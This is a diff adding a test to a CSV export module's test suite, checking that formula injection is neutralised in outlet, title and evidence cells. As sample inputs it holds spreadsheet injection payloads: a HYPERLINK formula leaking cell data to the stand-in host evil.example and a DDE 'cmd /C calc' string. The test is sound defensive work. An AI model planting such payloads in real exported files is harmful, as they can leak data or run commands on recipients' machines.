@@ -58,3 +58,15 @@ test("--bom puts one UTF-8 byte order mark first, and only when asked", () => {
 test("the parser is strict: a stray quote is refused", () => {
   assert.throws(() => read('claim_id,notes\r\nk1,"unbalanced\r\n'));
 });
+
+test("neutralises formulas in every text cell: an outlet, a title or evidence starting with = + - @", () => {
+  const records = sampleRecords();
+  const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
+  records[0] = { ...records[0], document: { ...records[0].document!, outlet: evil, title: "@SUM(1+1)" }, claim: { ...records[0].claim, evidence: { ...records[0].claim.evidence, text: "+cmd|' /C calc'!A0" } } };
+  const parsed = read(claimRecordsToCsv(records));
+  const row = parsed.find((r) => r.claim_id === records[0].claim.id)!;
+  assert.equal(row.outlet, `'${evil}`);
+  assert.equal(row.title, "'@SUM(1+1)");
+  assert.equal(row.notes, "'+cmd|' /C calc'!A0");
+  for (const r of parsed) for (const [col, v] of Object.entries(r)) assert.doesNotMatch(v, /^[=+@\t\r]/, `${r.claim_id} ${col}`);
+});
